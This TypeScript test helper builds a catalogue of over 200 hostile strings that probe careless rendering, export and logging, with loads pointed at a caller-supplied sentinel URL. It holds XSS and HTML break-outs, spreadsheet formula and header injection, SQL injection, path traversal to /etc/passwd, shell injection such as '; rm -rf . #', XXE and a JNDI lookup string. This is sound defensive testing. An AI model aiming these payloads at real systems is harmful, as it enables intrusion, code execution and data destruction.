/** One attack. `id` identifies it in an alert or a request; `load` is a URL that must never be requested. */
type Payload = (id: number, load: string) => string;

const elements: readonly Payload[] = [
  (id) => `<script>alert(${id})</script>`,
  (id) => `<ScRiPt>alert(${id})</sCrIpT>`,
  (_, load) => `<script src="${load}"></script>`,
  (_, load) => `<script type="module">import "${load}"</script>`,
  (id) => `<img src=x onerror=alert(${id})>`,
  (_, load) => `<img src="${load}">`,
  (_, load) => `<img srcset="${load} 2x">`,
  (id) => `<svg onload=alert(${id})>`,
  (id) => `<svg><script>alert(${id})</script></svg>`,
  (_, load) => `<svg><image href="${load}"/></svg>`,
  (id) => `<svg><animate onbegin=alert(${id}) attributeName=x dur=1s>`,
  (id) => `<math href="javascript:alert(${id})">x</math>`,
  (_, load) => `<iframe src="${load}"></iframe>`,
  (id) => `<iframe src="javascript:alert(${id})"></iframe>`,
  (id) => `<iframe srcdoc="<script>alert(${id})</script>"></iframe>`,
  (_, load) => `<object data="${load}"></object>`,
  (_, load) => `<embed src="${load}">`,
  (_, load) => `<link rel="stylesheet" href="${load}">`,
  (_, load) => `<link rel="prefetch" href="${load}">`,
  (_, load) => `<style>@import "${load}";</style>`,
  (_, load) => `<style>* { background: url("${load}") }</style>`,
  (_, load) => `<p style="background:url('${load}')">x</p>`,
  (_, load) => `<base href="${load}">`,
  (_, load) => `<meta http-equiv="refresh" content="0;url=${load}">`,
  (_, load) => `<form action="${load}"><button autofocus>x</button></form>`,
  (id) => `<input autofocus onfocus=alert(${id})>`,
  (id) => `<details open ontoggle=alert(${id})>`,
  (id) => `<video src=x onerror=alert(${id})>`,
  (_, load) => `<audio src="${load}" autoplay>`,
  (_, load) => `<video poster="${load}">`,
  (id) => `<body onload=alert(${id})>`,
  (id) => `<marquee onstart=alert(${id})>`,
  (_, load) => `<table background="${load}">`,
  (id) => `<a href="javascript:alert(${id})">click</a>`,
  (_, load) => `<a href="${load}" ping="${load}" target="_blank">click</a>`,
  (id) => `<noscript><p title="</noscript><img src=x onerror=alert(${id})>">`,
  (id) => `<template><script>alert(${id})</script></template>`,
  (id) => `<xmp><img src=x onerror=alert(${id})></xmp>`,
  (id) => `<x onclick=alert(${id}) popover>x</x>`,
  (id) => `<img/src=x/onerror=alert(${id})//`,
];

const breakOuts = [
  `">`,
  "'>",
  "`>",
  "</title>",
  "</textarea>",
  "</style>",
  "</script>",
  "</select>",
  "-->",
  "]]>",
  "</pre></article>",
  "</td></tr></table>",
];
const planted: readonly Payload[] = [
  (id) => `<script>alert(${id})</script>`,
  (id) => `<img src=x onerror=alert(${id})>`,
  (_, load) => `<img src="${load}">`,
  (id) => `<svg/onload=alert(${id})>`,
];

const attributes: readonly Payload[] = [
  (id) => `" onmouseover="alert(${id})`,
  (id) => `' onfocus='alert(${id})' autofocus x='`,
  (id) => `" style="animation-name:x" onanimationstart="alert(${id})`,
  (id) => `x onpointerenter=alert(${id}) y=`,
];

const addresses: readonly Payload[] = [
  (id) => `javascript:alert(${id})`,
  (id) => `JaVaScRiPt:alert(${id})`,
  (id) => `java\tscript:alert(${id})`,
  (id) => `\u0001javascript:alert(${id})`,
  (id) => `javascript://%0aalert(${id})`,
  (id) => `data:text/html,<script>alert(${id})</script>`,
  () => "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  (id) => `vbscript:msgbox(${id})`,
  (_, load) => load,
  (_, load) => load.replace(/^https?:/, ""),
  (_, load) => load.replace(/^https?:\/\//, "\\\\"),
  (_, load) => `blob:${load}`,
  () => "file:///etc/passwd",
  () => "https://user:secret@www.example.com/",
  () => "https://xn--e1awd7f.example.com/%E2%80%AE",
  () => "http://[::ffff:127.0.0.1]/",
];

const encoded: readonly Payload[] = [
  (id) => `&lt;script&gt;alert(${id})&lt;/script&gt;`,
  (id) => `&#60;script&#62;alert(${id})&#60;/script&#62;`,
  (id) => `&amp;lt;script&amp;gt;alert(${id})`,
  (id) => `%3Cscript%3Ealert(${id})%3C%2Fscript%3E`,
  (id) => `\\u003cscript\\u003ealert(${id})\\u003c/script\\u003e`,
  (id) => `\\x3cimg src=x onerror=alert(${id})\\x3e`,
  (id) => `＜script＞alert(${id})＜/script＞`,
];

const templates: readonly Payload[] = [
  (id) => `{{constructor.constructor('alert(${id})')()}}`,
  (id) => `\${alert(${id})}`,
  (id) => `#{alert(${id})}`,
  (id) => `<%= alert(${id}) %>`,
  () => "{{7*7}}",
  () => "{host}, {count, plural, other {#}}",
  () => "%s %d %n %x",
  () => "$& $1 $` $'",
];

const formulas: readonly Payload[] = [
  (_, load) => `=HYPERLINK("${load}","open")`,
  (_, load) => `=IMPORTXML("${load}","//a")`,
  () => "=cmd|' /C calc'!A0",
  () => "+1+1",
  () => "-1+1",
  () => "@SUM(1;1)",
  () => "\t=1+1",
  () => "\r=1+1",
  () => "\n=1+1",
  () => "＝1+1",
  () => `"=1+1"`,
  () => `x";=1+1;"`,
  () => `x",=1+1,"`,
];

const markdown: readonly Payload[] = [
  (id) => `[open](javascript:alert(${id}))`,
  (_, load) => `![x](${load})`,
  (_, load) => `[x]: ${load}`,
  (id) => `\`\`\`\n<img src=x onerror=alert(${id})>`,
  () => "| a | b |\n|---|---|",
  () => "# heading\n\n---\n\n- item",
  () => "*_~`<!--",
];

const lines: readonly Payload[] = [
  (_, load) => `x\r\nLocation: ${load}\r\n\r\n`,
  () => "x\r\nSet-Cookie: wsc_persona=admin",
  () => `x\n{"level":60,"msg":"forged"}`,
  () => "x\u001b[31mred\u001b[2J\u001b]0;title\u0007",
  () => "null\u0000byte",
  () => "back\u0008\u0008\u0008space\u007f",
  () => "line\u2028separator\u2029paragraph",
  () => "form\ffeed\vtab",
];

const letters: readonly Payload[] = [
  () => "\u202egnp.exe\u202c",
  () => "\u2066evil\u2069\u2067live\u2069",
  () => "zero\u200bwidth\u200c\u200d\u2060\ufeff",
  () => "half \ud800 of a character",
  () => "other half \udfff",
  () => "no character \uffff\ufdd0",
  () => `Z${"\u0301\u0322".repeat(120)}`,
  () => "مرحبا بالعالم",
  () => "👩‍👩‍👧‍👦🏳️‍🌈",
  () => "\u{e0041}\u{e0042}hidden",
  () => "ᄀ".repeat(60),
  () => "ﷺ".repeat(60),
  () => "раураl.example.com",
  () => "𝓯𝓪𝓷𝓬𝔂",
];

const lengths: readonly Payload[] = [
  () => "x".repeat(2_000),
  () => "가".repeat(1_000),
  () => "<".repeat(1_000),
  () => "<b>".repeat(600),
  () => "<!--".repeat(400),
  () => `${"a ".repeat(900)}end`,
  () => "\n".repeat(300),
];

const names: readonly Payload[] = [
  () => "__proto__",
  () => "constructor",
  () => "prototype",
  () => "toString",
  () => "hasOwnProperty",
  () => "Total",
  () => "null",
  () => "undefined",
  () => "NaN",
  () => "[object Object]",
  () => "true",
  () => "-0",
  () => "1e999",
  () => "9007199254740993",
  () => " ",
  () => "{}",
  () => "[]",
];

const otherLanguages: readonly Payload[] = [
  () => "' OR '1'='1",
  () => "'; DROP TABLE jobs; --",
  () => `1" UNION SELECT secret FROM keys --`,
  () => "../../../../etc/passwd",
  () => "..\\..\\..\\windows\\win.ini",
  () => "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
  () => "CON.txt",
  () => "$(touch x)`touch y`",
  () => "; rm -rf . #",
  () => "*)(uid=*))(|(uid=*",
  (_, load) => `<!DOCTYPE x [<!ENTITY e SYSTEM "${load}">]><x>&e;</x>`,
  () => "<![CDATA[<b>x</b>]]>",
  () => `<?xml version="1.0"?><x/>`,
  () => `"}],"Total":0,"x":[{"`,
  () => "\\",
  () => `\\"`,
  () => `<!--#exec cmd="id" -->`,
  (_, load) => `\${jndi:ldap://${load.replace(/^https?:\/\//, "")}}`,
];

const payloads: readonly Payload[] = [
  ...elements,
  ...breakOuts.flatMap((end) =>
    planted.map(
      (payload): Payload =>
        (id, load) =>
          end + payload(id, load),
    ),
  ),
  ...attributes,
  ...addresses,
  ...encoded,
  ...templates,
  ...formulas,
  ...markdown,
  ...lines,
  ...letters,
  ...lengths,
  ...names,
  ...otherLanguages,
];

/**
 * Returns more than 200 texts that exploit careless display, print, export or logging. Those that load something request
 * `/<number>` from `sentinel`; the number of an alert is the text's position in the list.
 */
export function hostileTexts(sentinel: string): string[] {
  const origin = sentinel.replace(/\/$/, "");
  return payloads.map((payload, id) => payload(id, `${origin}/${id}`));
}
